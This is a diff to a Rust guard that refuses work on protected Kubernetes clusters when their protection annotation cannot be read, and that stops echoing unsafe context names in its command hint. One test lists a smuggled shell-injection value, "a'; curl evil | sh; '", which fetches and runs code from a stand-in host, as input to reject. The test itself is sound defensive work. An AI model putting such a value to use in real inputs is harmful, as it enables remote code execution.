@@ -1,7 +1,7 @@
 //! The guard before protected clusters: nothing is made on one that its owner or the user's
 //! configuration sets apart, unless that one is named as allowed.
 
-use winconform_core::text::printable;
+use winconform_core::text::{SHOWN, is_hostile, printable};
 use winconform_core::way::ApiRequest;
 
 use super::connect::Cluster;
@@ -40,15 +40,37 @@ pub enum Guarded {
         /// The annotation's value.
         says: String,
     },
+    /// Nobody can tell.
+    #[error(
+        "whether the cluster of context `{}` is protected cannot be told: the annotation \
+         `{PROTECTED}` of its namespace kube-system was not read: {}\n{}",
+        printable(context),
+        printable(why),
+        hint(context)
+    )]
+    Unread {
+        /// The context.
+        context: String,
+        /// Why it was not read.
+        why: String,
+    },
 }
 
+/// How to go on: as a command only where a shell takes the name as it is shown.
 fn hint(context: &str) -> String {
-    let context = printable(context);
-    format!("(to go on nevertheless, on this one alone: --allow-protected '{context}')")
+    let option = match context.contains('\'')
+        || context.contains(is_hostile)
+        || context.chars().count() > SHOWN
+    {
+        true => "--allow-protected with the name of the context".to_owned(),
+        false => format!("--allow-protected '{context}'"),
+    };
+    format!("(to go on nevertheless, on this one alone: {option})")
 }
 
-/// Refuses a protected cluster, unless its context is the one that is `allowed`. An annotation that
-/// cannot be read protects nothing: who may not read it is told so by the facts.
+/// Refuses a protected cluster, unless its context is the one that is `allowed`, and one of which
+/// nobody can tell. To who may not read the annotation, or of a namespace that is not there, it
+/// protects nothing.
 pub async fn guard(
     cluster: &Cluster,
     protected: &[String],
@@ -65,12 +87,22 @@ pub async fn guard(
             named: named.clone(),
         });
     }
-    let Ok(reply) = cluster.api.send(&ApiRequest::get(NAMESPACE)).await else {
-        return Ok(());
+    let unread = |why: String| {
+        let context = context.clone();
+        Err(Guarded::Unread { context, why })
     };
+    let reply = match cluster.api.send(&ApiRequest::get(NAMESPACE)).await {
+        Ok(reply) => reply,
+        Err(trouble) => return unread(trouble.to_string()),
+    };
+    match reply.status {
+        200 => {}
+        403 | 404 => return Ok(()),
+        status => return unread(format!("status {status}: {}", reply.message())),
+    }
     let annotation = &reply.body["metadata"]["annotations"][PROTECTED];
     match annotation.as_str() {
-        Some(says) if reply.status == 200 && says != "false" => Err(Guarded::ByAnnotation {
+        Some(says) if says != "false" => Err(Guarded::ByAnnotation {
             context: context.clone(),
             says: says.to_owned(),
         }),
@@ -162,7 +194,42 @@ mod tests {
         let fake = Fake::default();
         // Nor does what an error's body claims
         let body = json!({"message": "no", "metadata": {"annotations": {PROTECTED: "x"}}});
-        fake.script(&format!("GET {NAMESPACE} "), 403, body);
-        assert_eq!(guard(&cluster(&fake), &[], None).await, Ok(()));
+        for status in [403, 404] {
+            fake.script(&format!("GET {NAMESPACE} "), status, body.clone());
+            assert_eq!(guard(&cluster(&fake), &[], None).await, Ok(()), "{status}");
+        }
+    }
+
+    #[tokio::test(start_paused = true)]
+    async fn nothing_is_made_where_it_cannot_be_told() {
+        // The API's own trouble, and an answer that is none
+        for status in [500, 503, 429, 401, 418, 201] {
+            let fake = Fake::default();
+            let body = json!({"kind": "Status", "message": "etcdserver: no leader"});
+            fake.script(&format!("GET {NAMESPACE} "), status, body);
+            let cluster = cluster(&fake);
+            let refused = guard(&cluster, &[], None).await;
+            let said = refused.expect_err("nobody knows").to_string();
+            for part in [
+                "whether the cluster of context `prod-admin` is protected cannot be told",
+                "etcdserver: no leader",
+                "--allow-protected 'prod-admin'",
+            ] {
+                assert!(said.contains(part), "{status}: {said}");
+            }
+            assert_eq!(guard(&cluster, &[], Some("prod-admin")).await, Ok(()));
+        }
+    }
+
+    #[test]
+    fn a_command_is_offered_only_where_a_shell_takes_it_as_it_is_shown() {
+        let plain = "kind prod; $(x) `y`";
+        assert!(hint(plain).contains(&format!("--allow-protected '{plain}'")));
+        let long = "x".repeat(SHOWN + 1);
+        for odd in ["a'; curl evil | sh; '", "a\u{202e}b", "a\nb", "a\rb", &long] {
+            let said = hint(odd);
+            assert!(said.contains("--allow-protected with"), "{said}");
+            assert!(!said.contains(odd) && !said.contains('\''), "{said}");
+        }
     }
 }
